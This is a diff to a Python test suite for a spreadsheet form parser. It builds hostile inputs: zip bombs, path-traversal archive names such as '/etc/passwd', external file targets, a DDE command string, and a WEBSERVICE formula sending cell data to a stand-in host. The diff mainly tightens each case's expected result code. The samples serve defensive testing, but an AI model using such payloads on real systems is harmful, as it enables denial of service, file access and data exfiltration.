@@ -5,7 +5,7 @@ A case is a row: name, what is made, what is wanted of it. Beside every case lie
 
 What is wanted: a code (nothing was taken, with this code), several codes with ``|`` where more than one answer is good,
 ``taken`` (every figure as typed, and nothing to mend) or ``partly`` (some figures, all as typed), each with codes that
-must be there too, ``-`` (passed over). Many files: a mapping of names.
+must be there too. Many files: a mapping of names.
 """
 
 from __future__ import annotations
@@ -201,18 +201,26 @@ TEXT = "urn:oasis:names:tc:opendocument:xmlns:text:1.0"
 CALC = "application/vnd.oasis.opendocument.spreadsheet"
 
 
-def ods(after: str = "", *, content: str | bytes | None = None, before: str = "", spoilt: str = "", **parts) -> bytes:
+def ods(
+    after: str = "",
+    *,
+    sheet: str = SHEET,
+    content: str | bytes | None = None,
+    before: str = "",
+    spoilt: str = "",
+    **parts,
+) -> bytes:
     """The form as an .ods; ``after`` are more rows below it, ``before`` stands before the root, ``spoilt`` in F12."""
     book = {
         layout.address(int(m[2]) - 1, _column(m[1])): m[3]
-        for m in re.finditer(r'<c r="([A-Z]+)(\d+)"[^>]*>(.*?)</c>', SHEET)
+        for m in re.finditer(r'<c r="([A-Z]+)(\d+)"[^>]*>(.*?)</c>', sheet, re.DOTALL)
     }
     rows = []
     for row in range(1, 40):
         cells = []
         for column in range(10):
             told = book.get(layout.address(row - 1, column), "")
-            text = re.sub("<[^>]+>", "", told)
+            text = re.sub("<[^>]+>", "", told).replace("\n", "</text:p><text:p>")
             if spoilt and (row, column) == (12, 5):
                 cells.append(spoilt)
             elif told.startswith("<v>"):
@@ -299,14 +307,14 @@ case("two end records", "unreadable-file", lambda: FORM + FORM[-22:])
 case("comment", "taken", lambda: FORM[:-2] + b"\x05\0xin c")
 case("comment with an end record in it", "unsupported-format|unreadable-file", lambda: FORM[:-2] + b"\x16\0PK\x05\x06" + bytes(18))
 case("comment longer than the file", "unreadable-file|taken", lambda: FORM[:-2] + b"\xff\xff")
-case("lists itself without end", ANY, lambda: raw_zip([(b"[Content_Types].xml", b"<Types/>", 60_000)]))
-case("500 parts", ANY, lambda: form(**{f"xl/media/{i}.png": "x" for i in range(500)}))
-case("65,535 parts", ANY, lambda: form(**{f"xl/{i}": "" for i in range(65_000)}))
-case("half a million directory entries", ANY, lambda: raw_zip([(b"[Content_Types].xml", b"<Types/>", 180_000)]))
-case("part of 4 MB of zeros", ANY, lambda: form(**{"xl/media/a.bin": b"\0" * (4 << 20)}))
+case("lists itself without end", "unreadable-file", lambda: raw_zip([(b"[Content_Types].xml", b"<Types/>", 60_000)]))
+case("500 parts", "too-large", lambda: form(**{f"xl/media/{i}.png": "x" for i in range(500)}))
+case("65,000 parts", ANY, lambda: form(**{f"xl/{i}": "" for i in range(65_000)}))
+case("180,000 directory entries", "too-large", lambda: raw_zip([(b"[Content_Types].xml", b"<Types/>", 180_000)]))
+case("part of 4 MB of zeros", "too-large", lambda: form(**{"xl/media/a.bin": b"\0" * (4 << 20)}))
 case("sheet of 2 GB of spaces", ANY, lambda: bomb(DATA, 2 << 30))
-case("styles of 500 MB of spaces", ANY, lambda: bomb(STYLES, 500 << 20))
-case("content types of 500 MB of spaces", ANY, lambda: bomb(TYPES, 500 << 20))
+case("styles of 500 MB of spaces", "too-large", lambda: bomb(STYLES, 500 << 20))
+case("content types of 500 MB of spaces", "too-large", lambda: bomb(TYPES, 500 << 20))
 case("property part of 1 GB", ANY, lambda: bomb("docProps/core.xml", 1 << 30))
 case("parts that overlap", ANY, lambda: overlapping())
 case("parts within each other (Fifield)", ANY, lambda: nested_entries())
@@ -316,7 +324,7 @@ case("size told as 4 GB", ANY, lambda: patched(FORM, DATA, listed={24: b"\xff\xf
 case("packed size told as 4 GB", ANY, lambda: patched(FORM, DATA, listed={20: b"\xfe\xff\xff\xff"}))
 case("checksum wrong", "unreadable-file", lambda: patched(FORM, DATA, listed={16: b"\0\0\0\0"}))
 case("checksum wrong in the local header alone", "taken", lambda: patched(FORM, DATA, local={14: b"\0\0\0\0"}))
-case("other name in the local header", "taken|unreadable-file", lambda: patched(FORM, DATA, local={30: b"XL"}))
+case("other name in the local header", "taken", lambda: patched(FORM, DATA, local={30: b"XL"}))
 case("no local header", "unreadable-file", lambda: patched(FORM, DATA, local={0: b"XXXX"}))
 case("sizes after the data", "taken", lambda: streamed(PARTS))
 case("zip64", "taken", lambda: with_zip64(PARTS))
@@ -329,17 +337,17 @@ case("absolute name", "unreadable-file", lambda: form(**{"/etc/passwd": "x"}))
 case("name with ..", "unreadable-file", lambda: form(**{"xl/../../x": "x"}))
 case("name with a drive", "unreadable-file", lambda: form(**{"C:\\x.xml": "x"}))
 case("name with NUL", "unreadable-file", lambda: named(b"xl/a\0.xml"))
-case("empty name", "taken|unreadable-file", lambda: named(b""))
-case("name of 60,000 characters", "taken|unreadable-file", lambda: named(b"x" * 60_000))
-case("undecodable name", "taken|unreadable-file", lambda: named(b"\xff\xfe\x80"))
-case("other name in the Unicode field", "taken|unreadable-file", lambda: unicode_path())
+case("empty name", "unreadable-file", lambda: named(b""))
+case("name of 60,000 characters", "taken", lambda: named(b"x" * 60_000))
+case("undecodable name", "unreadable-file", lambda: named(b"\xff\xfe\x80"))
+case("other name in the Unicode field", "taken", lambda: unicode_path())
 case("names with backslashes", "taken", lambda: sheets.zipped({n.replace("/", "\\"): b for n, b in PARTS.items()}))
 case("names in capitals", "taken", lambda: sheets.zipped({n.upper() if n != TYPES else n: b for n, b in PARTS.items()}))
 case("a part twice", "unreadable-file", lambda: raw_zip([(n.encode(), b.encode(), 1) for n, b in [*PARTS.items(), (DATA, SHEET.replace("<v>5<", "<v>9<"))]]))
 case("a part twice in other case", "unreadable-file", lambda: form(**{DATA.upper(): SHEET}))
 case("symbolic link", "unreadable-file", lambda: patched(FORM, DATA, listed={5: b"\x03", 38: b"\0\0\xff\xa1"}))
 case("folders", "taken", lambda: form(**{"xl/": "", "xl/worksheets/": "", "_rels/": ""}))
-case("a good form in 300 attempts", "taken", lambda: form(**{f"xl/media/{i}.png": "x" for i in range(200)}))
+case("200 parts more", "taken", lambda: form(**{f"xl/media/{i}.png": "x" for i in range(200)}))
 
 
 def bomb(name: str, size: int) -> bytes:
@@ -457,24 +465,24 @@ case("entity nowhere told", "unreadable-file", lambda: form(**{DATA: SHEET.repla
 case("nested 100,000 deep", "unreadable-file", lambda: with_rows("<a>" * 100_000 + "</a>" * 100_000))
 case("styles nested 100,000 deep", "unreadable-file", lambda: form(**{STYLES: "<a>" * 100_000 + "</a>" * 100_000}))
 case("theme nested 300,000 deep", "taken", lambda: form(**{"xl/theme/theme1.xml": b"<a>" * 300_000}))
-case("attribute of 4 MB", ANY, lambda: with_rows(f'<row x="{noise(1 << 16).hex() * 32}"/>'))
-case("comment of 4 MB", ANY, lambda: with_rows(f"<!--{noise(1 << 16).hex() * 32}-->"))
-case("a tag that does not end", ANY, lambda: form(**{DATA: SHEET[:2000] + "<row " + 'a="1" ' * 3_000_000}))
-case("300,000 attributes", ANY, lambda: with_rows("<row " + " ".join(f'a{i}="1"' for i in range(300_000)) + "/>"))
-case("100,000 attributes", "taken|unreadable-file", lambda: with_rows("<row " + " ".join(f'a{i}="1"' for i in range(100_000)) + "/>"))
+case("attribute of 4 MB", "unreadable-file", lambda: with_rows(f'<row x="{noise(1 << 16).hex() * 32}"/>'))
+case("comment of 4 MB", "unreadable-file", lambda: with_rows(f"<!--{noise(1 << 16).hex() * 32}-->"))
+case("a tag that does not end", "too-large", lambda: form(**{DATA: SHEET[:2000] + "<row " + 'a="1" ' * 3_000_000}))
+case("300,000 attributes", "unreadable-file", lambda: with_rows("<row " + " ".join(f'a{i}="1"' for i in range(300_000)) + "/>"))
+case("100,000 attributes", "taken", lambda: with_rows("<row " + " ".join(f'a{i}="1"' for i in range(100_000)) + "/>"))
 case("an attribute twice", "unreadable-file", lambda: with_rows('<row r="99" r="98"/>'))
-case("50,000 namespaces", "taken|unreadable-file|too-large", lambda: with_after("".join(f'<a{i}:x xmlns:a{i}="u{i}"/>' for i in range(50_000))))
+case("50,000 namespaces", "taken", lambda: with_after("".join(f'<a{i}:x xmlns:a{i}="u{i}"/>' for i in range(50_000))))
 case("UTF-16", "taken", lambda: form(**{DATA: SHEET.replace("UTF-8", "UTF-16").encode("utf-16")}))
-case("UTF-16 without a mark", "taken|unreadable-file", lambda: form(**{DATA: SHEET.replace("UTF-8", "UTF-16").encode("utf-16-be")}))
+case("UTF-16 without a mark", "taken", lambda: form(**{DATA: SHEET.replace("UTF-8", "UTF-16").encode("utf-16-be")}))
 case("UTF-8 with a mark", "taken", lambda: form(**{DATA: b"\xef\xbb\xbf" + SHEET.encode()}))
 case("UTF-8 that says ASCII", "unreadable-file", lambda: form(**{DATA: SHEET.replace("UTF-8", "US-ASCII").encode()}))
-case("UTF-8 that says latin-1", "sheet-missing|not-a-form", lambda: form(**{DATA: SHEET.replace("UTF-8", "ISO-8859-1").encode()}))
+case("UTF-8 that says latin-1", "sheet-missing", lambda: form(**{DATA: SHEET.replace("UTF-8", "ISO-8859-1").encode()}))
 case("UTF-7", "unreadable-file", lambda: form(**{DATA: SHEET.replace("UTF-8", "UTF-7").encode("utf-7")}))
 case("UTF-32", "unreadable-file", lambda: form(**{DATA: SHEET.replace("UTF-8", "UTF-32").encode("utf-32")}))
 case("EBCDIC", "unreadable-file", lambda: form(**{DATA: SHEET.replace("UTF-8", "cp037").encode("cp037", "replace")}))
 case("an encoding that is none", "unreadable-file", lambda: form(**{DATA: SHEET.replace("UTF-8", "x-none").encode()}))
 case("broken UTF-8", "unreadable-file", lambda: form(**{DATA: SHEET.encode().replace("Số".encode(), b"S\xe1\xbb")}))
-case("XML 1.1", "taken|unreadable-file", lambda: form(**{DATA: SHEET.replace('version="1.0"', 'version="1.1"')}))
+case("XML 1.1", "taken", lambda: form(**{DATA: SHEET.replace('version="1.0"', 'version="1.1"')}))
 case("NUL inside", "unreadable-file", lambda: form(**{DATA: SHEET.replace("<v>5<", "<v>5\0<")}))
 case("a character that XML forbids", "unreadable-file", lambda: form(**{DATA: SHEET.replace("<v>5<", "<v>&#1;5<")}))
 case("CDATA", "taken", lambda: form(**{DATA: SHEET.replace("<v>5<", "<v><![CDATA[5]]><")}))
@@ -488,10 +496,10 @@ case("end tags crossed", "unreadable-file", lambda: form(**{DATA: SHEET.replace(
 case("not closed", "unreadable-file", lambda: form(**{DATA: SHEET.removesuffix("</worksheet>")}))
 case("no text at all in a part", "unreadable-file", lambda: form(**{DATA: ""}))
 case("no text in a property part", "taken", lambda: form(**{"docProps/core.xml": "", "docProps/app.xml": "<"}))
-case("million elements in styles", ANY, lambda: form(**{STYLES: "<styleSheet>" + "<a/>" * 1_000_000 + "</styleSheet>"}))
-case("million relations", ANY, lambda: form(**{"xl/worksheets/_rels/sheet1.xml.rels": "<Relationships>" + "<Relationship/>" * 1_000_000 + "</Relationships>"}))
-case("300,000 defined names", ANY, lambda: form(**{BOOK: PARTS[BOOK].replace("<definedNames>", "<definedNames>" + '<definedName name="a">1</definedName>' * 300_000)}))
-case("million properties", ANY, lambda: form(**{CUSTOM: PARTS[CUSTOM].replace("</Properties>", "<property/>" * 1_000_000 + "</Properties>")}))
+case("million elements in styles", "too-large", lambda: form(**{STYLES: "<styleSheet>" + "<a/>" * 1_000_000 + "</styleSheet>"}))
+case("million relations", "too-large", lambda: form(**{"xl/worksheets/_rels/sheet1.xml.rels": "<Relationships>" + "<Relationship/>" * 1_000_000 + "</Relationships>"}))
+case("300,000 defined names", "too-large", lambda: form(**{BOOK: PARTS[BOOK].replace("<definedNames>", "<definedNames>" + '<definedName name="a">1</definedName>' * 300_000)}))
+case("million properties", "too-large", lambda: form(**{CUSTOM: PARTS[CUSTOM].replace("</Properties>", "<property/>" * 1_000_000 + "</Properties>")}))
 
 # ------------------------------------------------------------------ packages
 
@@ -512,7 +520,7 @@ case("Strict Open XML", "taken", lambda: sheets.zipped({n: b.replace(sheets.MAIN
 case("two workbooks: types and relations differ", "unreadable-file", lambda: with_type('PartName="/xl/workbook.xml"', 'PartName="/xl/other.xml"', **{"xl/other.xml": PARTS[BOOK]}))
 case("two workbooks by relations", "unreadable-file", lambda: form(**{"xl/other.xml": PARTS[BOOK], ROOT: PARTS[ROOT].replace("</Relationships>", f'<Relationship Id="rX" Type="{sheets.RELATIONS}/officeDocument" Target="xl/other.xml"/></Relationships>')}))
 case("two workbooks by types", "unreadable-file", lambda: form(**{TYPES: PARTS[TYPES].replace("</Types>", f'<Override PartName="/xl/other.xml" ContentType="{MAIN_TYPE}"/></Types>')}))
-case("a Word document as well", "taken|unreadable-file", lambda: form(**{"word/document.xml": "<x/>"}))
+case("a Word document as well", "taken", lambda: form(**{"word/document.xml": "<x/>"}))
 case("Word document named .xlsx", "unsupported-format", lambda: sheets.zipped({TYPES: PARTS[TYPES], "word/document.xml": "<x/>"}))
 case("slides named .xlsx", "unsupported-format", lambda: sheets.zipped({TYPES: PARTS[TYPES], "ppt/presentation.xml": "<x/>"}))
 case("no workbook", "unreadable-file", lambda: form(**{BOOK: None}))
@@ -521,12 +529,12 @@ case("no relations", "unreadable-file", lambda: form(**{ROOT: None}))
 case("no sheet", "unreadable-file", lambda: form(**{DATA: None}))
 case("no styles", "taken", lambda: form(**{STYLES: None}))
 case("no sheets listed", "unreadable-file", lambda: form(**{BOOK: re.sub("<sheet .*?/>", "", PARTS[BOOK])}))
-case("1,000 sheets listed", ANY, lambda: form(**{BOOK: PARTS[BOOK].replace("<sheets>", "<sheets>" + '<sheet name="a" r:id="rId3"/>' * 1_000)}))
+case("1,000 sheets listed", "too-large", lambda: form(**{BOOK: PARTS[BOOK].replace("<sheets>", "<sheets>" + '<sheet name="a" r:id="rId3"/>' * 1_000)}))
 case("a sheet listed twice", "unreadable-file", lambda: form(**{BOOK: PARTS[BOOK].replace("<sheets>", '<sheets><sheet name="x" r:id="rId1"/>')}))
 case("two sheets over one part", "unreadable-file", lambda: form(**{RELS: PARTS[RELS].replace("sheet2.xml", "sheet1.xml")}))
 case("a sheet without a relation", "unreadable-file", lambda: form(**{BOOK: PARTS[BOOK].replace('r:id="rId1"', 'r:id="rId99"')}))
 case("a sheet that is the workbook itself", "unreadable-file", lambda: form(**{RELS: PARTS[RELS].replace("worksheets/sheet2.xml", "workbook.xml")}))
-case("relations with one id", "unreadable-file|partly|not-a-form|taken", lambda: form(**{RELS: re.sub('Id="rId[0-9]+"', 'Id="rId1"', PARTS[RELS])}))
+case("relations with one id", "unreadable-file", lambda: form(**{RELS: re.sub('Id="rId[0-9]+"', 'Id="rId1"', PARTS[RELS])}))
 case("targets outside the package", "unreadable-file", lambda: form(**{RELS: PARTS[RELS].replace('"worksheets/sheet1', '"../../../../etc/sheet1')}))
 case("the sheet lies outside", "unreadable-file", lambda: form(**{RELS: PARTS[RELS].replace('Target="worksheets/sheet1.xml"', 'Target="file:///C:/sheet1.xml" TargetMode="External"')}))
 case("targets with detours", "taken", lambda: form(**{RELS: PARTS[RELS].replace('"worksheets/', '"./x/../worksheets/')}))
@@ -534,7 +542,7 @@ case("targets from the root", "taken", lambda: form(**{RELS: PARTS[RELS].replace
 case("targets with %", "taken", lambda: form(**{RELS: PARTS[RELS].replace('"worksheets/', '"%77orksheets/')}))
 for kind in ("chartsheet", "dialogsheet", "xlMacrosheet"):
     case(f"a {kind} as well", "taken", lambda k=kind: form(**{"xl/other1.xml": "<x/>", RELS: PARTS[RELS].replace("</Relationships>", f'<Relationship Id="rX" Type="{sheets.RELATIONS}/{k}" Target="other1.xml"/></Relationships>'), BOOK: PARTS[BOOK].replace("</sheets>", '<sheet name="x" sheetId="9" r:id="rX"/></sheets>')}))
-case("the form is a macro sheet", "unreadable-file|not-a-form|sheet-missing|partly", lambda: form(**{RELS: PARTS[RELS].replace('/worksheet" Target="worksheets/sheet1', '/xlMacrosheet" Target="worksheets/sheet1')}))
+case("the form is a macro sheet", "sheet-missing", lambda: form(**{RELS: PARTS[RELS].replace('/worksheet" Target="worksheets/sheet1', '/xlMacrosheet" Target="worksheets/sheet1')}))
 case("embedded documents", "taken", lambda: form(**{"xl/embeddings/oleObject1.bin": noise(50_000), "xl/embeddings/Microsoft_Excel_Sheet1.xlsx": FORM}))
 case("ActiveX", "taken", lambda: form(**{"xl/activeX/activeX1.xml": "<x/>", "xl/activeX/activeX1.bin": noise(900)}))
 case("link to another workbook", "taken external-link", lambda: form(**{"xl/externalLinks/externalLink1.xml": "<externalLink/>"}))
@@ -570,30 +578,30 @@ case("million formatted rows with a cell each", "taken", lambda: with_rows("".jo
 case("million formatted rows as LibreOffice writes them", "taken", lambda: with_rows("".join(f'<row r="{r}" customFormat="false" ht="12.8" hidden="false" customHeight="false" outlineLevel="0" collapsed="false"><c r="A{r}" s="1"/></row>' for r in range(50, MILLION + 1))))
 case("million hidden rows", "taken", lambda: with_rows("".join(f'<row r="{r}" hidden="1"/>' for r in range(50, MILLION + 1))))
 case("million rows, a figure of the form behind them", "taken", lambda: form(**{DATA: SHEET.replace("<sheetData>", "<sheetData>" + "".join(f'<row r="{r}" s="1"/>' for r in range(50, MILLION + 1)))}))
-case("million rows without numbers", ANY, lambda: with_rows("<row/>" * MILLION))
+case("million rows without numbers", "too-large", lambda: with_rows("<row/>" * MILLION))
 case("two million formatted rows", "taken|too-large", lambda: with_rows("".join(f'<row r="{r}" s="1"/>' for r in range(2 * MILLION))))
 case("three million formatted cells", "taken", lambda: with_rows(cells(3_000_000, '<c r="{}" s="1"/>')))
 case("million formatted cells in another order", ANY, lambda: with_rows(cells(1_000_000, '<c s="1" r="{}"/>')))
-case("45,000 numbers", ANY, lambda: with_rows(cells(45_000, '<c r="{}"><v>1</v></c>')))
-case("300,001 numbers", ANY, lambda: with_rows(cells(300_020, '<c r="{}"><v>1</v></c>')))
+case("45,000 numbers", "too-large", lambda: with_rows(cells(45_000, '<c r="{}"><v>1</v></c>')))
+case("300,020 numbers", ANY, lambda: with_rows(cells(300_020, '<c r="{}"><v>1</v></c>')))
 case("30,000 numbers", "taken", lambda: with_rows(cells(30_000, '<c r="{}"><v>1</v></c>')))
 case("30,000 texts on another sheet", "taken", lambda: form(**{"xl/worksheets/sheet4.xml": sheets.sheet_xml(cells(30_000, '<c r="{}" t="inlineStr"><is><t>Số liệu</t></is></c>'))}))
 case("300,000 numbers on the scratch sheet", "taken", lambda: form(**{"xl/worksheets/sheet3.xml": sheets.sheet_xml(cells(300_000, '<c r="{}"><v>1</v></c>'))}))
-case("merged 65,000 x 200", "partly|taken", lambda: with_after('<mergeCells><mergeCell ref="A1:GR65000"/></mergeCells>'))
+case("merged 65,000 x 200", "taken", lambda: with_after('<mergeCells><mergeCell ref="A1:GR65000"/></mergeCells>'))
 case("merged beside the form, 65,000 x 200", "taken", lambda: with_after('<mergeCells><mergeCell ref="Z100:JA65000"/></mergeCells>'))
 case("merges that overlap", "partly cell-error", lambda: with_after('<mergeCells><mergeCell ref="F12:F13"/><mergeCell ref="F13:G14"/></mergeCells>'))
-case("10,000 merges", ANY, lambda: with_after("<mergeCells>" + "".join(f'<mergeCell ref="Z{i}:AA{i}"/>' for i in range(1, 10_001)) + "</mergeCells>"))
+case("10,000 merges", "too-large", lambda: with_after("<mergeCells>" + "".join(f'<mergeCell ref="Z{i}:AA{i}"/>' for i in range(1, 10_001)) + "</mergeCells>"))
 case("merges that are none", "taken", lambda: with_after('<mergeCells><mergeCell ref=""/><mergeCell/><mergeCell ref="A0:A-1"/><mergeCell ref="F12"/></mergeCells>'))
 case("merge from the far corner", "partly cell-error", lambda: with_after('<mergeCells><mergeCell ref="F13:F12"/></mergeCells>'))
 case("rows in reverse order", "taken", lambda: form(**{DATA: re.sub("(<row.*</row>)", lambda m: "".join(reversed(re.findall("<row.*?</row>", m[0]))), SHEET)}))
-case("a cell twice, nearly alike", "taken|partly cell-error", lambda: with_cell("F12", '<c r="F12"><v>5</v></c><c r="F12"><v>5.0</v></c>'))
+case("a cell twice, nearly alike", "partly cell-error", lambda: with_cell("F12", '<c r="F12"><v>5</v></c><c r="F12"><v>5.0</v></c>'))
 case("a cell twice, unlike", "partly cell-error", lambda: with_cell("F12", '<c r="F12"><v>5</v></c><c r="F12"><v>50</v></c>'))
 case("a cell once more at the end", "partly cell-error", lambda: with_rows('<row r="12"><c r="F12"><v>50</v></c></row>'))
 case("a cell that names another row", "partly cell-error", lambda: with_cell("F12", '<c r="F12"><v>5</v></c><c r="F13"><v>50</v></c>'))
 for number in ("0", "-5", "99999999999", "x", "1.5", "1e3", "٣"):
     case(f"row number {number}", "taken", lambda n=number: with_rows(f'<row r="{n}"><c r="Z{n}"><v>1</v></c></row>'))
 case("references in lower case", "taken", lambda: form(**{DATA: re.sub(r'<c r="([A-Z]+[0-9]+)"', lambda m: m[0].lower(), SHEET)}))
-case("references with $", "partly|taken|missing-value|empty-return|not-a-form", lambda: form(**{DATA: re.sub(r'<c r="F([0-9]+)"', r'<c r="$F$\1"', SHEET)}))
+case("references with $", "missing-value", lambda: form(**{DATA: re.sub(r'<c r="F([0-9]+)"', r'<c r="$F$\1"', SHEET)}))
 for literal in ("NaN", "inf", "-INF", "1e999", "0x1F", "1_000", "1,5", "5 6", "--5", "٥", "½", "1e", "5e99999"):
     case(f"number literal {literal}", "partly", lambda t=literal: with_cell("F12", f'<c r="F12"><v>{t}</v></c>'))
 case("number literal of 2 MB", "partly", lambda: with_cell("F12", f'<c r="F12"><v>{words(2_000_000).translate(DIGITS)}</v></c>'))
@@ -607,14 +615,14 @@ case("ISO date in a figure", "partly date-as-number", lambda: with_cell("F12", '
 case("date beyond the calendar", "partly", lambda: with_cell("F12", '<c r="F12" t="d"><v>99999-99-99</v></c>'))
 for index in ("-1", "0", "99", "99999999999999999999", "1.0", "x", ""):
     case(f"shared text {index!r} of none", "partly", lambda i=index: with_cell("F12", f'<c r="F12" t="s"><v>{i}</v></c>'))
-case("shared text as it should be", "taken|partly number-as-text", lambda: with_texts("<si><t>5</t></si>", '<c r="F12" t="s"><v>0</v></c>'))
+case("shared text as it should be", "taken number-as-text", lambda: with_texts("<si><t>5</t></si>", '<c r="F12" t="s"><v>0</v></c>'))
 case("shared text -1", "partly cell-error", lambda: with_texts("<si><t>5</t></si>", '<c r="F12" t="s"><v>-1</v></c>'))
 case("shared text of 3 MB", "partly", lambda: with_texts(f"<si><t>{words(3_000_000)}</t></si>", '<c r="F12" t="s"><v>0</v></c>'))
 case("rich text of 2 MB", "partly", lambda: with_texts("<si>" + "".join(f"<r><rPr><b/></rPr><t>{words(40)}</t></r>" for _ in range(30_000)) + "</si>", '<c r="F12" t="s"><v>0</v></c>'))
-case("million shared texts", ANY, lambda: with_texts("<si><t>a</t></si>" * 1_000_000, '<c r="F12"><v>5</v></c>'))
+case("million shared texts", "too-large", lambda: with_texts("<si><t>a</t></si>" * 1_000_000, '<c r="F12"><v>5</v></c>'))
 case("one text that all cells share", "taken", lambda: with_texts(f"<si><t>{'a' * 30_000}</t></si>", '<c r="F12"><v>5</v></c>'))
 case("inline text of 9 MB", "partly", lambda: with_cell("F12", f'<c r="F12" t="inlineStr"><is><t>{words(9_000_000)}</t></is></c>'))
-case("inline texts of 20 MB together", ANY, lambda: with_rows(cells(3_000, f'<c r="{{}}" t="inlineStr"><is><t>{noise(4_000).hex()}</t></is></c>')))
+case("inline texts of 20 MB together", "too-large", lambda: with_rows(cells(3_000, f'<c r="{{}}" t="inlineStr"><is><t>{noise(4_000).hex()}</t></is></c>')))
 case("inline rich text in a figure", "taken number-as-text", lambda: with_cell("F12", '<c r="F12" t="inlineStr"><is><r><t>5</t></r><r><t></t></r><rPh><t>9</t></rPh></is></c>'))
 case("formula of 5 MB", "partly formula-in-input", lambda: with_cell("F12", f'<c r="F12"><f>{words(5_000_000)}</f><v>5</v></c>'))
 case("array formula over a million cells", "partly formula-in-input", lambda: with_cell("F12", '<c r="F12"><f t="array" ref="F12:XFD1048576">1</f><v>5</v></c>'))
@@ -623,16 +631,16 @@ case("DDE", "partly formula-in-input", lambda: with_cell("F12", "<c r=\"F12\"><f
 case("DDE as text in a source", "taken", lambda: with_cell("H12", '<c r="H12" t="inlineStr"><is><t>=cmd|\'/c calc\'!A0</t></is></c>'))
 case("WEBSERVICE", "partly formula-in-input", lambda: with_cell("F12", '<c r="F12"><f>_xlfn.WEBSERVICE("http://203.0.113.1/"&amp;A1)</f><v>5</v></c>'))
 case("error cell", "partly cell-error", lambda: with_cell("F12", '<c r="F12" t="e"><v>#SPILL!</v></c>'))
-case("cells within cells", "partly|taken|unreadable-file", lambda: with_cell("F12", '<c r="F12"><c r="F13"><v>50</v></c><v>5</v></c>'))
+case("cells within cells", "partly cell-error missing-value", lambda: with_cell("F12", '<c r="F12"><c r="F13"><v>50</v></c><v>5</v></c>'))
 case("two values in a cell", "partly not-a-number", lambda: with_cell("F12", '<c r="F12"><v>5</v><v>50</v></c>'))
 case("style index 4 billion", "taken", lambda: with_cell("F12", '<c r="F12" s="4294967296"><v>5</v></c>'))
 case("style index -1", "taken", lambda: with_cell("F12", '<c r="F12" s="-1"><v>5</v></c>'))
 case("65,000 styles", "taken", lambda: form(**{STYLES: f'<styleSheet xmlns="{sheets.MAIN}"><cellXfs>' + "".join(f'<xf numFmtId="0" fontId="{words(4)}"/>' for _ in range(65_000)) + "</cellXfs></styleSheet>"}))
-case("number format of 5 MB", "taken|unreadable-file|too-large", lambda: form(**{STYLES: PARTS[STYLES].replace("dd/mm/yyyy", "[x]&quot;" * 500_000)}))
-case("two tables of rows", "partly|taken cell-error", lambda: form(**{DATA: SHEET.replace("</sheetData>", '</sheetData><sheetData><row r="12"><c r="F12"><v>50</v></c></row></sheetData>')}))
+case("number format of 5 MB", "too-large", lambda: form(**{STYLES: PARTS[STYLES].replace("dd/mm/yyyy", "[x]&quot;" * 500_000)}))
+case("two tables of rows", "partly cell-error", lambda: form(**{DATA: SHEET.replace("</sheetData>", '</sheetData><sheetData><row r="12"><c r="F12"><v>50</v></c></row></sheetData>')}))
 case("footer of 5 MB", "taken", lambda: with_after(f"<headerFooter><oddFooter>{words(5_000_000)}</oddFooter></headerFooter>"))
-case("sheet name of 1 MB", "taken|partly|unreadable-file", lambda: form(**{BOOK: PARTS[BOOK].replace('name="Nháp"', f'name="{"x" * 900_000}"')}))
-case("a thousand stamps", "forged-form|taken|not-a-form|unreadable-file", lambda: with_rows(cells(1_000, '<c r="{}" t="inlineStr"><is><t>LSI1-AAAA-2025-x-y-z</t></is></c>')))
+case("sheet name of 1 MB", "taken", lambda: form(**{BOOK: PARTS[BOOK].replace('name="Nháp"', f'name="{"x" * 900_000}"')}))
+case("a thousand stamps", "taken forged-form stray-content", lambda: with_rows(cells(1_000, '<c r="{}" t="inlineStr"><is><t>LSI1-AAAA-2025-x-y-z</t></is></c>')))
 
 # ------------------------------------------------------------------ other contents
 
@@ -685,8 +693,8 @@ for told, content, code in (
     ("a form of 11 MB", FORM + b"\0" * (11 << 20), "too-large"),
 ):
     case(told, code, lambda c=content: c)
-case("31 MB of text", "too-large", lambda: b"a,b\n" * (8 << 20))
-case("headers without end", "too-large|unreadable-file|unsupported-format", lambda: b"Subject: x\n" * (1 << 20))
+case("32 MB of text", "too-large", lambda: b"a,b\n" * (8 << 20))
+case("headers without end", "unreadable-file", lambda: b"Subject: x\n" * (1 << 20))
 case("encrypted .xlsx", "encrypted-file", lambda: ole("EncryptionInfo", "EncryptedPackage", body=noise(9_000)))
 case("encrypted .xls", "encrypted-file", lambda: ole("Workbook", body=(BIFF + b"\0" * 4 + bytes.fromhex("2f003600")).ljust(4096, b"\1")))
 case("Word 97", "unsupported-format", lambda: ole("WordDocument", "1Table"), "bieu.xls")
@@ -695,8 +703,8 @@ case("Outlook .msg", "unsupported-format", lambda: ole("__properties_version1.0"
 case("OLE head alone", "unreadable-file", lambda: ole()[:8], "bieu.xls")
 case("OLE without streams", "unreadable-file", lambda: ole(), "bieu.xls")
 case(".xls of noise", "unreadable-file", lambda: ole("Workbook", body=noise(30_000)), "bieu.xls")
-case(".xls with records of noise", "unreadable-file|not-a-form", lambda: ole("Workbook", body=(BIFF + noise(30_000)).ljust(40_000)), "bieu.xls")
-case(".xls of 9 MB of streams", "unreadable-file|encrypted-file|unsupported-format", lambda: ole("Workbook") + ole("Workbook")[512:640] * 70_000, "bieu.xls")
+case(".xls with records of noise", "unreadable-file", lambda: ole("Workbook", body=(BIFF + noise(30_000)).ljust(40_000)), "bieu.xls")
+case(".xls of 9 MB of streams", "unreadable-file", lambda: ole("Workbook") + ole("Workbook")[512:640] * 70_000, "bieu.xls")
 case(".xls with sector chains in a circle", "unreadable-file", lambda: ole("Workbook")[:512] + b"\0\0\0\0" * 2_000, "bieu.xls")
 case("Word document .docm as .xls", "unsupported-format", lambda: sheets.zipped({TYPES: "<Types/>", "word/document.xml": "<x/>"}), "bieu.xls")
 
@@ -713,15 +721,15 @@ def ods_case(name: str, wanted: str, make: Callable[[], Files]) -> None:
 
 ods_case("the form", "taken", lambda: ods())
 ods_case("formatted to the last row and column", "taken", lambda: ods(EMPTY_ROWS.format(1_048_537, 16_384, ' table:style-name="ce1"')))
-ods_case("rows repeated 4 billion times", f"taken|{ANY}", lambda: ods(EMPTY_ROWS.format(4_294_967_295, 4_294_967_295, "")))
-ods_case("rows repeated -1 times", f"taken|{ANY}", lambda: ods(EMPTY_ROWS.format(-1, "x", "")))
-ods_case("a number in every cell of the sheet", f"partly|taken|{ANY}", lambda: ods('<table:table-row table:number-rows-repeated="1048000">' + NUMBER.format(5, ' table:number-columns-repeated="16384"', 5) + "</table:table-row>"))
